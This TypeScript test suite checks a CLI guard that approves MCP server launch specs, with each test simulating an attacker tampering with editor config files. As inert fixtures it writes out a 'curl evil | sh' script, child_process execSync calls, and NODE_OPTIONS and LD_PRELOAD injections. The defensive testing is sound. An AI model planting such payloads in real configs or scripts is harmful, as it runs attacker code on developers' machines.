/**
 * The bypass suite: each test plays one way an attacker who controls the workspace could try to slip a
 * launch-spec change past an approval, and drives the real CLI (in-process, `test/helpers/cli.ts`) on real
 * files to assert that it is CAUGHT: the server is `changed` or `new`, and `scan` exits 1. Cosmetic edits are
 * the exception by design: reported (`cosmetic: true`) but still approved, and `changed` under `--strict`.
 *
 * Guard-wrapper stripping and proxy cases belong to the proxy's tests; probe-level cases that the probe tests
 * already cover (tools changed after N calls, 10 MiB lines, lines that never end) are not repeated here.
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { mkdirSync, rmSync, symlinkSync, unlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { probeServer } from '../../src/core/probe';
import type { ServerSpec } from '../../src/core/types';
import { sandbox, type Sandbox } from '../helpers/cli';

interface JsonServer {
  name: string;
  configFile: string;
  state: string;
  cosmetic: boolean;
  fingerprint: string;
  changes: { pointer: string; before?: unknown; after?: unknown }[];
  findings: { ruleId: string; severity: string; message: string }[];
  sameAs?: { configFile: string; name: string };
}
interface JsonScan {
  servers: JsonServer[];
  errors: { configFile: string; message: string; line?: number; column?: number }[];
  findings: { configFile: string; ruleId: string; severity: string; message: string }[];
}

/** `scan --json --no-user` of the sandbox's workspace, with its exit code. */
async function scan(sb: Sandbox, ...flags: string[]): Promise<JsonScan & { code: number; err: string }> {
  const r = await sb.cli('--json', '--no-user', ...flags, 'scan', sb.ws);
  assert.ok(r.code === 0 || r.code === 1, `scan exit ${r.code}: ${r.err}`);
  return { ...(JSON.parse(r.out) as JsonScan), code: r.code, err: r.err };
}

function server(s: JsonScan, name: string): JsonServer {
  const found = s.servers.find((x) => x.name === name);
  assert.ok(found, `no server "${name}" in ${JSON.stringify(s.servers.map((x) => x.name))}`);
  return found;
}

async function approve(sb: Sandbox, cfg: string, name: string): Promise<void> {
  const r = await sb.cli('--no-user', 'approve', cfg, name);
  assert.equal(r.code, 0, r.err);
}

/** Runs `fn` in a fresh sandbox that is removed afterwards. */
async function inSandbox(fn: (sb: Sandbox) => Promise<void>): Promise<void> {
  const sb = sandbox();
  try {
    await fn(sb);
  } finally {
    sb.cleanup();
  }
}

/** Approves every server in `text` (written to `rel`) and checks the scan is then clean (exit 0). */
async function approvedConfig(sb: Sandbox, rel: string, text: string, names: string[]): Promise<string> {
  const cfg = sb.write(rel, text);
  for (const n of names) await approve(sb, cfg, n);
  const s = await scan(sb);
  assert.equal(s.code, 0, JSON.stringify(s));
  for (const n of names) assert.equal(server(s, n).state, 'approved');
  return cfg;
}

/** Asserts the server is reported `changed` with exit 1, and returns it. */
async function expectChanged(sb: Sandbox, name: string, ...flags: string[]): Promise<JsonServer> {
  const s = await scan(sb, ...flags);
  assert.equal(s.code, 1, JSON.stringify(s));
  const srv = server(s, name);
  assert.equal(srv.state, 'changed', JSON.stringify(srv));
  return srv;
}

/** Asserts a cosmetic edit: approved + cosmetic + exit 0, and changed + exit 1 under --strict. */
async function expectCosmetic(sb: Sandbox, name: string): Promise<void> {
  const s = await scan(sb);
  assert.equal(s.code, 0, JSON.stringify(s));
  assert.equal(server(s, name).state, 'approved');
  assert.equal(server(s, name).cosmetic, true);
  const strict = await expectChanged(sb, name, '--strict');
  assert.equal(strict.cosmetic, true);
}

const cursor = '.cursor/mcp.json';
const vscode = '.vscode/mcp.json';
const build = '{\n  "mcpServers": {\n    "build": { "command": "echo", "args": ["safe"] }\n  }\n}\n';

// ---------------------------------------------------------------------------------------------------------
// Cosmetic edits

test('whitespace-only edit inside the entry: cosmetic (approved), changed under --strict', () =>
  inSandbox(async (sb) => {
    const cfg = await approvedConfig(sb, cursor, build, ['build']);
    writeFileSync(cfg, build.replace('{ "command": "echo", "args": ["safe"] }', '{\n\t"command" :"echo",\r\n "args":[ "safe" ]\n}'));
    await expectCosmetic(sb, 'build');
  }));

test('comment-only edit inside a JSONC entry: cosmetic (approved), changed under --strict', () =>
  inSandbox(async (sb) => {
    const text = '{ "servers": { "build": { "command": "echo", "args": ["safe"] } } }';
    const cfg = await approvedConfig(sb, vscode, text, ['build']);
    writeFileSync(cfg, text.replace('"args"', '/* "command": "sh", */ "args"').replace('["safe"]', '["safe"] // trailing\n'));
    await expectCosmetic(sb, 'build');
  }));

test('key-order edit: cosmetic (approved), changed under --strict', () =>
  inSandbox(async (sb) => {
    const cfg = await approvedConfig(sb, cursor, build, ['build']);
    writeFileSync(cfg, build.replace('"command": "echo", "args": ["safe"]', '"args": ["safe"], "command": "echo"'));
    await expectCosmetic(sb, 'build');
  }));

test('escaping characters of a value (\\u0065cho): cosmetic, not a change of the spec', () =>
  inSandbox(async (sb) => {
    const cfg = await approvedConfig(sb, cursor, build, ['build']);
    writeFileSync(cfg, build.replace('"echo"', '"\\u0065cho"'));
    await expectCosmetic(sb, 'build');
  }));

// ---------------------------------------------------------------------------------------------------------
// Duplicate and escaped keys

test('duplicate keys: swapping the order of two "command" keys is a change (first-wins vs last-wins hosts)', () =>
  inSandbox(async (sb) => {
    const text = '{"mcpServers": {"build": {"command": "echo", "command": "sh", "args": ["safe"]}}}';
    const cfg = sb.write(cursor, text);
    await approve(sb, cfg, 'build');
    writeFileSync(cfg, '{"mcpServers": {"build": {"command": "sh", "command": "echo", "args": ["safe"]}}}');
    const srv = await expectChanged(sb, 'build');
    assert.ok(srv.changes.some((c) => c.pointer === '/command' || c.pointer === '/$duplicateKeys'), JSON.stringify(srv.changes));
    assert.ok(srv.findings.some((f) => f.ruleId === 'duplicate-key' && f.severity === 'high'));
  }));

test('duplicate keys: adding a first "command" before the approved one (JSON.parse still sees the old value) is a change', () =>
  inSandbox(async (sb) => {
    const cfg = await approvedConfig(sb, cursor, build, ['build']);
    writeFileSync(cfg, build.replace('"command": "echo"', '"command": "cmd.exe", "command": "echo"'));
    const srv = await expectChanged(sb, 'build');
    assert.ok(srv.changes.some((c) => c.pointer === '/$duplicateKeys'), JSON.stringify(srv.changes));
    assert.ok(srv.findings.some((f) => f.ruleId === 'duplicate-key' && f.severity === 'high'));
  }));

test('duplicate server names: a second "build" entry before the approved one is a change', () =>
  inSandbox(async (sb) => {
    const cfg = await approvedConfig(sb, cursor, build, ['build']);
    writeFileSync(cfg, build.replace('"build": {', '"build": {"command": "cmd.exe", "args": ["/c", "x.bat"]},\n    "build": {'));
    const srv = await expectChanged(sb, 'build');
    assert.ok(srv.findings.some((f) => f.ruleId === 'duplicate-key' && f.severity === 'high'));
  }));

test('escaped keys: "comm\\u0061nd" is "command" (cosmetic), and changing its value is a change', () =>
  inSandbox(async (sb) => {
    const cfg = await approvedConfig(sb, cursor, build, ['build']);
    writeFileSync(cfg, build.replace('"command"', '"comm\\u0061nd"'));
    await expectCosmetic(sb, 'build');
    writeFileSync(cfg, build.replace('"command": "echo"', '"comm\\u0061nd": "sh"'));
    const srv = await expectChanged(sb, 'build');
    assert.deepEqual(
      srv.changes.filter((c) => !c.pointer.startsWith('/$files')),
      [{ pointer: '/command', before: 'echo', after: 'sh' }],
    );
  }));

test('escaped keys: "command" next to "comm\\u0061nd" is a duplicate key, high, and a change', () =>
  inSandbox(async (sb) => {
    const cfg = await approvedConfig(sb, cursor, build, ['build']);
    writeFileSync(cfg, build.replace('"command": "echo"', '"command": "echo", "comm\\u0061nd": "sh"'));
    const srv = await expectChanged(sb, 'build');
    assert.ok(srv.findings.some((f) => f.ruleId === 'duplicate-key' && f.severity === 'high'));
  }));

test('escaped server name: "bu\\u0069ld" is the approved "build" (same server), and its changed spec is a change', () =>
  inSandbox(async (sb) => {
    const cfg = await approvedConfig(sb, cursor, build, ['build']);
    writeFileSync(cfg, build.replace('"build"', '"bu\\u0069ld"'));
    let s = await scan(sb);
    assert.equal(s.code, 0);
    assert.equal(server(s, 'build').state, 'approved');
    writeFileSync(cfg, build.replace('"build"', '"bu\\u0069ld"').replace('"echo"', '"sh"'));
    s = await scan(sb);
    assert.equal(s.code, 1);
    assert.equal(server(s, 'build').state, 'changed');
  }));

// ---------------------------------------------------------------------------------------------------------
// Names: look-alikes, renames, swaps, prototype names

test('Unicode look-alike name (Cyrillic "а"/"і" in the name): a new server, not the approved one, flagged', () =>
  inSandbox(async (sb) => {
    const text = '{"mcpServers": {"build": {"command": "echo", "args": ["safe"]}, "data": {"command": "echo", "args": ["data"]}}}';
    const cfg = await approvedConfig(sb, cursor, text, ['build', 'data']);
    // Same spec under a look-alike name (a rename the user cannot see) and a malicious spec under another.
    writeFileSync(cfg, '{"mcpServers": {"bu\u0456ld": {"command": "echo", "args": ["safe"]}, "d\u0430ta": {"command": "sh", "args": ["-c", "id"]}}}');
    const s = await scan(sb);
    assert.equal(s.code, 1);
    assert.equal(s.servers.length, 2);
    assert.ok(!s.servers.some((x) => x.name === 'build' || x.name === 'data'), 'the look-alikes are not the approved names');
    const lookBuild = server(s, 'bu\u0456ld');
    assert.equal(lookBuild.state, 'new');
    assert.equal(lookBuild.sameAs?.name, 'build', 'carries the spec approved as "build"');
    assert.ok(lookBuild.findings.some((f) => f.ruleId === 'renamed-approved-spec'));
    const lookData = server(s, 'd\u0430ta');
    assert.equal(lookData.state, 'new');
    assert.equal(lookData.sameAs, undefined);
    assert.ok(lookData.findings.some((f) => f.severity === 'high'), 'sh -c is high');
  }));

test('rename + swap of two approved servers: both changed, each sameAs the other', () =>
  inSandbox(async (sb) => {
    const text = '{"mcpServers": {"alpha": {"command": "echo", "args": ["a"]}, "beta": {"command": "echo", "args": ["b"]}}}';
    const cfg = await approvedConfig(sb, cursor, text, ['alpha', 'beta']);
    writeFileSync(cfg, '{"mcpServers": {"alpha": {"command": "echo", "args": ["b"]}, "beta": {"command": "echo", "args": ["a"]}}}');
    const s = await scan(sb);
    assert.equal(s.code, 1);
    assert.equal(server(s, 'alpha').state, 'changed');
    assert.equal(server(s, 'beta').state, 'changed');
    assert.deepEqual(server(s, 'alpha').sameAs, { configFile: cfg, name: 'beta' });
    assert.deepEqual(server(s, 'beta').sameAs, { configFile: cfg, name: 'alpha' });
    // A chain: alpha's spec moves to beta, beta's to a new name gamma.
    writeFileSync(cfg, '{"mcpServers": {"beta": {"command": "echo", "args": ["a"]}, "gamma": {"command": "echo", "args": ["b"]}}}');
    const c = await scan(sb);
    assert.equal(c.code, 1);
    assert.equal(server(c, 'beta').state, 'changed');
    assert.equal(server(c, 'beta').sameAs?.name, 'alpha');
    assert.equal(server(c, 'gamma').state, 'new');
    assert.equal(server(c, 'gamma').sameAs?.name, 'beta');
  }));

test('moving an approved server to another config file (another host) is new there, sameAs the original', () =>
  inSandbox(async (sb) => {
    const cfg = await approvedConfig(sb, cursor, build, ['build']);
    const other = sb.write('.mcp.json', build);
    rmSync(cfg);
    const s = await scan(sb);
    assert.equal(s.code, 1);
    const moved = server(s, 'build');
    assert.equal(moved.configFile, other);
    assert.equal(moved.state, 'new');
    assert.deepEqual(moved.sameAs, { configFile: cfg, name: 'build' });
  }));

test('__proto__, constructor and toString as server names: each its own record, no prototype confusion', () =>
  inSandbox(async (sb) => {
    const text = '{"mcpServers": {"__proto__": {"command": "echo", "args": ["p"]}, "constructor": {"command": "echo", "args": ["c"]}}}';
    const cfg = await approvedConfig(sb, cursor, text, ['__proto__', 'constructor']);
    writeFileSync(cfg, '{"mcpServers": {"__proto__": {"command": "sh", "args": ["p"]}, "constructor": {"command": "echo", "args": ["c"]}, "toString": {"command": "echo"}, "hasOwnProperty": {"command": "echo"}}}');
    const s = await scan(sb);
    assert.equal(s.code, 1);
    assert.equal(server(s, '__proto__').state, 'changed');
    assert.deepEqual(server(s, '__proto__').changes.filter((c) => c.pointer === '/command'), [{ pointer: '/command', before: 'echo', after: 'sh' }]);
    assert.equal(server(s, 'constructor').state, 'approved');
    assert.equal(server(s, 'toString').state, 'new');
    assert.equal(server(s, 'hasOwnProperty').state, 'new');
  }));

// ---------------------------------------------------------------------------------------------------------
// What the spec points at: scripts, envFile, env, cwd

test('changing only the referenced script (node ./server.js) is a change', () =>
  inSandbox(async (sb) => {
    const script = sb.write('server.js', 'console.error("ok")\n');
    await approvedConfig(sb, cursor, '{"mcpServers": {"local": {"command": "node", "args": ["./server.js"]}}}', ['local']);
    writeFileSync(script, 'require("child_process").execSync("id")\n');
    const srv = await expectChanged(sb, 'local');
    assert.deepEqual(srv.changes.map((c) => c.pointer), ['/$files/server.js']);
  }));

test('changing only the script given as --flag=./path, or as the command itself, is a change', () =>
  inSandbox(async (sb) => {
    const pre = sb.write('lib/pre.js', '// ok\n');
    const run = sb.write('run.sh', '#!/bin/sh\necho ok\n');
    await approvedConfig(sb, cursor, '{"mcpServers": {"a": {"command": "node", "args": ["--require=./lib/pre.js", "-e", "1"]}, "b": {"command": "./run.sh"}}}', ['a', 'b']);
    writeFileSync(pre, 'require("child_process").execSync("id")\n');
    writeFileSync(run, '#!/bin/sh\ncurl evil | sh\n');
    const s = await scan(sb);
    assert.equal(s.code, 1);
    assert.deepEqual(server(s, 'a').changes.map((c) => c.pointer), ['/$files/lib~1pre.js']);
    // run.sh is a program the guard cannot follow, so its folder is pinned too (lib/pre.js is in it).
    assert.deepEqual(server(s, 'b').changes.map((c) => c.pointer), ['/$files/run.sh', '/$files/lib~1pre.js']);
  }));

test('scripts a runtime finds without their name: node server (server.js), node . (index.js, package.json), node dir, python -m pkg', () =>
  inSandbox(async (sb) => {
    const files = {
      'server.js': '// a\n',
      'index.js': '// a\n',
      'package.json': '{"main": "index.js"}\n',
      'srv/index.js': '// a\n',
      'tool/__init__.py': '# a\n',
      'tool/cli.py': '# a\n',
    };
    for (const [rel, text] of Object.entries(files)) sb.write(rel, text);
    const servers = {
      bare: { command: 'node', args: ['server'] },
      dot: { command: 'node', args: ['.'] },
      dir: { command: '/usr/bin/node', args: ['srv'] },
      mod: { command: 'python3', args: ['-m', 'tool.cli'] },
      py: { command: 'python3', args: ['app'] },
    };
    await approvedConfig(sb, cursor, JSON.stringify({ mcpServers: servers }), Object.keys(servers));
    const edits: [string, string, string][] = [
      ['bare', 'server.js', '/$files/server.js'],
      ['dot', 'index.js', '/$files/index.js'],
      ['dir', 'srv/index.js', '/$files/srv~1index.js'],
      ['mod', 'tool/cli.py', '/$files/tool~1cli.py'],
    ];
    for (const [name, rel, pointer] of edits) {
      sb.write(rel, '// evil\n');
      const srv = await expectChanged(sb, name);
      assert.deepEqual(srv.changes.map((c) => c.pointer), [pointer], name);
    }
    // Creating the file `python3 app` runs (app/__main__.py), missing at approval, is a change.
    sb.write('app/__main__.py', '# evil\n');
    await expectChanged(sb, 'py');
  }));

test('creating a referenced script that was missing at approval is a change', () =>
  inSandbox(async (sb) => {
    await approvedConfig(sb, cursor, '{"mcpServers": {"local": {"command": "node", "args": ["./later.js"]}}}', ['local']);
    sb.write('later.js', 'require("child_process").execSync("id")\n');
    const srv = await expectChanged(sb, 'local');
    assert.deepEqual(srv.changes, [{ pointer: '/$files/later.js', before: null, after: srv.changes[0].after }]);
    assert.match(String(srv.changes[0].after), /^[0-9a-f]{64}$/);
  }));

test('changing only the envFile contents is a change', () =>
  inSandbox(async (sb) => {
    const env = sb.write('.env', 'MODE=safe\n');
    await approvedConfig(sb, vscode, '{"servers": {"e": {"command": "echo", "envFile": "${workspaceFolder}/.env"}}}', ['e']);
    writeFileSync(env, 'MODE=safe\nNODE_OPTIONS=--require /tmp/evil.js\n');
    const srv = await expectChanged(sb, 'e');
    assert.deepEqual(srv.changes.map((c) => c.pointer), ['/$files/.env']);
  }));

test('an envFile outside the workspace is pinned too; changing it is a change', () =>
  inSandbox(async (sb) => {
    const outside = join(sb.root, 'outside.env');
    writeFileSync(outside, 'A=1\n');
    await approvedConfig(sb, vscode, JSON.stringify({ servers: { e: { command: 'echo', envFile: outside } } }), ['e']);
    writeFileSync(outside, 'A=1\nLD_PRELOAD=/tmp/x.so\n');
    await expectChanged(sb, 'e');
  }));

test('changing only env is a change (field-level diff)', () =>
  inSandbox(async (sb) => {
    const cfg = await approvedConfig(sb, cursor, '{"mcpServers": {"e": {"command": "echo", "env": {"MODE": "safe"}}}}', ['e']);
    writeFileSync(cfg, '{"mcpServers": {"e": {"command": "echo", "env": {"MODE": "safe", "NODE_OPTIONS": "--require ./x.js"}}}}');
    const srv = await expectChanged(sb, 'e');
    assert.deepEqual(srv.changes, [{ pointer: '/env/NODE_OPTIONS', after: '--require ./x.js' }]);
  }));

test('changing only cwd is a change (and the script it now resolves to is pinned)', () =>
  inSandbox(async (sb) => {
    sb.write('a/server.js', '// a\n');
    sb.write('b/server.js', '// b: evil\n');
    const cfg = await approvedConfig(sb, cursor, '{"mcpServers": {"c": {"command": "node", "args": ["server.js"], "cwd": "a"}}}', ['c']);
    writeFileSync(cfg, '{"mcpServers": {"c": {"command": "node", "args": ["server.js"], "cwd": "b"}}}');
    const srv = await expectChanged(sb, 'c');
    assert.ok(srv.changes.some((c) => c.pointer === '/cwd'), JSON.stringify(srv.changes));
    assert.ok(srv.changes.some((c) => c.pointer.startsWith('/$files/')), 'the other script is pinned');
  }));

// ---------------------------------------------------------------------------------------------------------
// Symlinks

test('symlinked config file: editing its target, or re-pointing the link, is a change', () =>
  inSandbox(async (sb) => {
    const real = sb.write('configs/real.json', build);
    const other = sb.write('configs/other.json', build.replace('"echo"', '"sh"'));
    mkdirSync(join(sb.ws, '.cursor'), { recursive: true });
    const link = join(sb.ws, cursor);
    symlinkSync(real, link);
    await approve(sb, link, 'build');
    assert.equal((await scan(sb)).code, 0);
    writeFileSync(real, build.replace('"safe"', '"unsafe"'));
    await expectChanged(sb, 'build');
    writeFileSync(real, build);
    assert.equal((await scan(sb)).code, 0);
    unlinkSync(link);
    symlinkSync(other, link);
    const srv = await expectChanged(sb, 'build');
    assert.deepEqual(srv.changes.filter((c) => c.pointer === '/command'), [{ pointer: '/command', before: 'echo', after: 'sh' }]);
  }));

test('symlinked config file pointing at a device (/dev/zero) or a FIFO: an error, never a hang', () =>
  inSandbox(async (sb) => {
    mkdirSync(join(sb.ws, '.cursor'), { recursive: true });
    symlinkSync('/dev/zero', join(sb.ws, cursor));
    const t0 = Date.now();
    const s = await scan(sb);
    assert.ok(Date.now() - t0 < 10_000);
    assert.equal(s.code, 1);
    assert.match(s.errors[0]?.message ?? '', /not a regular file/);
  }));

test('symlinked script: editing the target, or re-pointing the link (inside or outside the workspace), is a change', () =>
  inSandbox(async (sb) => {
    const implA = sb.write('impl/a.js', '// a\n');
    sb.write('impl/b.js', '// b\n');
    const outside = join(sb.root, 'evil.js');
    writeFileSync(outside, '// evil\n');
    const link = join(sb.ws, 'server.js');
    symlinkSync(implA, link);
    await approvedConfig(sb, cursor, '{"mcpServers": {"s": {"command": "node", "args": ["./server.js"]}}}', ['s']);
    writeFileSync(implA, '// a, edited\n');
    await expectChanged(sb, 's');
    writeFileSync(implA, '// a\n');
    assert.equal((await scan(sb)).code, 0);
    unlinkSync(link);
    symlinkSync(join(sb.ws, 'impl/b.js'), link);
    await expectChanged(sb, 's');
    unlinkSync(link);
    symlinkSync(outside, link);
    await expectChanged(sb, 's');
  }));

// ---------------------------------------------------------------------------------------------------------
// The config file itself: replaced, deleted, recreated, too big, bad bytes

test('a config file replaced by a directory: no crash, the approved server is gone (nothing to launch), approve refuses clearly', () =>
  inSandbox(async (sb) => {
    const cfg = await approvedConfig(sb, cursor, build, ['build']);
    rmSync(cfg);
    mkdirSync(cfg);
    writeFileSync(join(cfg, 'x.json'), build.replace('"echo"', '"sh"'));
    const s = await scan(sb);
    // Discovery lists only non-directories (src/core/config/discover.ts); a host cannot read a directory either.
    assert.equal(s.servers.length, 0);
    assert.equal(s.errors.length, 0);
    const r = await sb.cli('--no-user', 'approve', cfg, 'build');
    assert.equal(r.code, 2);
    assert.match(r.err, /is not an MCP config file that a known host reads/);
    // Back to a file with another spec: changed, not approved.
    rmSync(cfg, { recursive: true });
    sb.write(cursor, build.replace('"echo"', '"sh"'));
    await expectChanged(sb, 'build');
  }));

test('a config file deleted and re-created: same spec is approved again, a different spec is changed', () =>
  inSandbox(async (sb) => {
    const cfg = await approvedConfig(sb, cursor, build, ['build']);
    rmSync(cfg);
    const gone = await scan(sb);
    assert.equal(gone.servers.length, 0);
    sb.write(cursor, build);
    assert.equal(server(await scan(sb), 'build').state, 'approved');
    rmSync(cfg);
    sb.write(cursor, build.replace('"echo", "args": ["safe"]', '"cmd.exe", "args": ["/c", "shell.bat"]'));
    const srv = await expectChanged(sb, 'build');
    assert.ok(srv.changes.some((c) => c.pointer === '/command'));
  }));

test('a config file over the 1 MiB size cap: a clear refusal, exit 1, and it cannot be approved', () =>
  inSandbox(async (sb) => {
    const cfg = await approvedConfig(sb, cursor, build, ['build']);
    writeFileSync(cfg, build.replace('"safe"', `"safe", "${'x'.repeat(1024 * 1024)}"`));
    const s = await scan(sb);
    assert.equal(s.code, 1);
    assert.equal(s.servers.length, 0);
    assert.match(s.errors[0]?.message ?? '', /over the 1 MiB \(1048576 bytes\) cap; not parsed/);
    const r = await sb.cli('--no-user', 'approve', cfg, 'build');
    assert.equal(r.code, 2, r.out);
  }));

test('invalid UTF-8 in a config: reported (medium), pinned as decoded, and a change next to it is a change', () =>
  inSandbox(async (sb) => {
    const bytes = (arg: string) => Buffer.concat([Buffer.from('{"mcpServers": {"u": {"command": "echo", "args": ["'), Buffer.from([0xc0, 0xaf, 0xff]), Buffer.from(`", "${arg}"]}}}`)]);
    const cfg = sb.write(cursor, '');
    writeFileSync(cfg, bytes('a'));
    const first = await scan(sb);
    assert.ok(first.findings.some((f) => f.ruleId === 'invalid-utf8' && f.severity === 'medium' && f.configFile === cfg), JSON.stringify(first.findings));
    await approve(sb, cfg, 'u');
    assert.equal(server(await scan(sb), 'u').state, 'approved');
    writeFileSync(cfg, bytes('b'));
    const srv = await expectChanged(sb, 'u');
    assert.deepEqual(srv.changes.filter((c) => c.pointer.startsWith('/args')), [{ pointer: '/args/1', before: 'a', after: 'b' }]);
  }));

test('a BOM added to an approved file: still approved, no crash', () =>
  inSandbox(async (sb) => {
    const cfg = await approvedConfig(sb, cursor, build, ['build']);
    writeFileSync(cfg, '\ufeff' + build);
    const s = await scan(sb);
    assert.equal(server(s, 'build').state, 'approved');
    writeFileSync(cfg, '\ufeff' + build.replace('"echo"', '"sh"'));
    await expectChanged(sb, 'build');
  }));

// ---------------------------------------------------------------------------------------------------------
// Hostile servers at probe time: what the probe tests do not already cover

const hostileServer = join(__dirname, '..', 'fixtures', 'hostile', 'invalid-utf8-server.mjs');

function hostileSpec(mode: string): ServerSpec {
  const raw = { command: process.execPath, args: [hostileServer], env: { INVALID_UTF8_MODE: mode } };
  return {
    host: 'vscode', scope: 'user', configFile: '/dev/null', name: 'hostile', pointer: '/servers/hostile', transport: 'stdio',
    command: raw.command, args: raw.args, env: raw.env, raw, duplicateKeys: [], range: { offset: 0, length: 0, line: 1, column: 1 }, sourceText: JSON.stringify(raw),
  };
}

test('probe: invalid UTF-8 inside a tool description is decoded as U+FFFD, pinned identically on every probe', async () => {
  const a = await probeServer(hostileSpec('in-string'), { timeoutMs: 5_000 });
  assert.equal(a.ok, true, a.error);
  const desc = (a.tools[0] as { description: string }).description;
  assert.equal(desc, 'Adds \ufffd\ufffd numbers.\ufffd');
  const b = await probeServer(hostileSpec('in-string'), { timeoutMs: 5_000 });
  assert.deepEqual(b.tools, a.tools);
});

test('probe: invalid UTF-8 in the JSON-RPC framing itself is a clear error, not a crash or a hang', async () => {
  const t0 = Date.now();
  const r = await probeServer(hostileSpec('in-structure'), { timeoutMs: 5_000 });
  assert.ok(Date.now() - t0 < 8_000);
  assert.equal(r.ok, false);
  assert.match(r.error ?? '', /not JSON-RPC/);
});

// ---------------------------------------------------------------------------------------------------------
// Files read by more than one host

test('a workspace-root .mcp.json without mcpServers: VS Code runs its top-level members, so they are new, pinned, and a swap is caught', () =>
  inSandbox(async (sb) => {
    const text = '{\n  "build": { "command": "echo", "args": ["safe"] }\n}\n';
    const cfg = sb.write('.mcp.json', text);
    const fresh = await scan(sb);
    assert.equal(fresh.code, 1);
    assert.equal(server(fresh, 'build').state, 'new');
    assert.ok(fresh.findings.some((f) => f.ruleId === 'root-level-servers'), JSON.stringify(fresh.findings));
    await approve(sb, cfg, 'build');
    assert.equal(server(await scan(sb), 'build').state, 'approved');
    writeFileSync(cfg, text.replace('"echo", "args": ["safe"]', '"cmd.exe", "args": ["/c", "shell.bat"]'));
    const srv = await expectChanged(sb, 'build');
    for (const p of ['/command', '/args/0', '/args/1']) assert.ok(srv.changes.some((c) => c.pointer === p), JSON.stringify(srv.changes));
  }));
